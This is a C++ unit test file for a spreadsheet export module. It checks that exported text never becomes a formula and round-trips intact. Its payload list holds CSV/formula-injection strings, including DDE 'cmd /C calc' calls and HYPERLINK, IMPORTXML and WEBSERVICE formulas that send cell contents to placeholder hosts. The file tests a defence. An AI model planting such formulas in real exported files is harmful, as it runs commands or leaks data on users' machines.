// SPDX-License-Identifier: GPL-3.0-or-later
// Hostile names in spreadsheets: nothing but our own sums is ever a formula, and text comes back as
// it was.
#include "core/export/cells.hpp"
#include "core/export/workbook.hpp"
#include "tests/core/export/read_back.hpp"

namespace weft::test {
namespace {

const std::vector<std::string>& payloads() {
    static const std::vector<std::string> list{"=1+1",
                                               "+1+1",
                                               "-1+1",
                                               "@SUM(A1)",
                                               "\t=1+1",
                                               "\r=1+1",
                                               "\n=1+1",
                                               "=cmd|'/C calc'!A0",
                                               "=cmd|' /C notepad'!'A1'",
                                               "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")",
                                               "=IMPORTXML(CONCAT(\"http://x\",A2),\"//a\")",
                                               "=WEBSERVICE(\"http://x\")",
                                               "+cmd|'/C calc'!A0",
                                               "-cmd|'/C calc'!A0",
                                               "@cmd|'/C calc'!A0",
                                               "=DDE(\"cmd\";\"/C calc\";\"x\")",
                                               "DDE(\"cmd\")",
                                               " =1+1",
                                               "   +1",
                                               "\uFF1D1+1",
                                               "\uFF0B1",
                                               "\uFF0D1",
                                               "\uFF20SUM(1)",
                                               "\"=1+1\"",
                                               "'=1+1",
                                               "\"",
                                               "\"\"",
                                               "a\"b",
                                               "a,b",
                                               "a;b",
                                               "a\nb",
                                               "a\r\nb",
                                               "a\tb",
                                               ",",
                                               ";",
                                               "|",
                                               "%0A=1",
                                               "=",
                                               "+",
                                               "-",
                                               "@",
                                               "==",
                                               "=-1",
                                               "--1",
                                               "=A1",
                                               "=R1C1",
                                               "{=1+1}",
                                               "00123",
                                               "1E5",
                                               "1e400",
                                               "-40",
                                               "0x10",
                                               "1/2",
                                               "TRUE",
                                               "#REF!",
                                               "#N/A",
                                               "NaN",
                                               "é=1",
                                               "\u202E=1",
                                               "a\x01"
                                               "b",
                                               "<c><f>1</f></c>",
                                               "]]>",
                                               "&amp;",
                                               "_x0041_",
                                               "\U0001F600=1",
                                               "x\xFFy",
                                               std::string(40'000, 'x')};
    return list;
}

std::string unescaped(std::string text) { // _x0041_ and the like, as spreadsheets read them
    for (std::size_t at = 0; (at = text.find("_x", at)) != std::string::npos; ++at) {
        if (at + 6 < text.size() && text[at + 6] == '_') {
            const int code = std::stoi(text.substr(at + 2, 4), nullptr, 16);
            text.replace(at, 7, std::string(1, static_cast<char>(code)));
        }
    }
    return text;
}

TEST(SpreadsheetText, CsvTextIsNeverAFormulaAndComesBack) {
    ASSERT_GE(payloads().size(), 60u);
    for (const std::string& payload : payloads()) {
        std::string out;
        appendCsvRow(out, {payload, std::int64_t{-40}, -1.5, Money::fromDollars(-2)});
        const TextTable rows = readCsv(out);
        ASSERT_EQ(rows.size(), 1u) << payload;
        ASSERT_EQ(rows[0].size(), 4u) << payload;
        const std::string& cell = rows[0][0];
        EXPECT_TRUE(cell == payload || cell == "'" + payload) << payload;
        if (!cell.empty()) {
            EXPECT_EQ(std::string("=+-@\t\r\n").find(cell.front()), std::string::npos) << payload;
        }
        EXPECT_EQ(rows[0][1], "-40"); // numbers stay numbers
        EXPECT_EQ(rows[0][2], "-1.5");
        EXPECT_EQ(rows[0][3], "-2.00");
    }
}

TEST(SpreadsheetText, WorkbookTextIsNeverAFormulaAndComesBack) {
    auto book = Workbook::create("=1+1 <&>");
    ASSERT_TRUE(book);
    Sheet& sheet = book->addSheet("payloads");
    for (std::uint32_t row = 0; row < payloads().size(); ++row) {
        sheet.write(row, 0, payloads()[row]);
        sheet.write(row, 1, std::int64_t{-40});
    }
    const auto bytes = book->bytes();
    ASSERT_TRUE(bytes);
    ReadBook read = readBook(*bytes);
    for (std::uint32_t row = 0; row < payloads().size(); ++row) {
        const SheetCell& cell = read.sheets["payloads"][cellName(row, 0)];
        EXPECT_EQ(cell.formula, "");
        EXPECT_TRUE(cell.isText) << payloads()[row];
        std::string expected = validUtf8(payloads()[row]).substr(0, 32'767);
        const bool plain =
            expected.find_first_of("\r\t\x01") == std::string::npos && expected != "_x0041_";
        if (plain) {
            EXPECT_EQ(cell.text, expected);
        } else if (expected.find('\x01') != std::string::npos) {
            EXPECT_EQ(unescaped(cell.text), expected);
        }
        EXPECT_FALSE((read.sheets["payloads"][cellName(row, 1)].isText));
    }
}

TEST(SpreadsheetText, JsonTextComesBack) {
    std::string out;
    appendJsonObject(out, {{"a", "A"}, {"b", "B"}}, {std::string("\"\\\n<\x01>"), Cell()});
    EXPECT_EQ(out, "{\"a\":\"\\\"\\\\\\n<\\u0001>\",\"b\":null}");
}

TEST(SpreadsheetText, CentsAreWholeAndRoundHalvesAway) {
    EXPECT_EQ(wholeCents(Money::fromMicros(1'005'000)), Money::fromDollars(1.01)); // 1.005 -> 1.01
    EXPECT_EQ(wholeCents(Money::fromMicros(-1'005'000)), Money::fromDollars(-1.01));
    EXPECT_EQ(wholeCents(Money::fromMicros(1'004'999)), Money::fromDollars(1));
    EXPECT_EQ(cellName(0, 0), "A1");
    EXPECT_EQ(cellName(6, 25), "Z7");
    EXPECT_EQ(cellName(0, 26), "AA1");
}

} // namespace
} // namespace weft::test
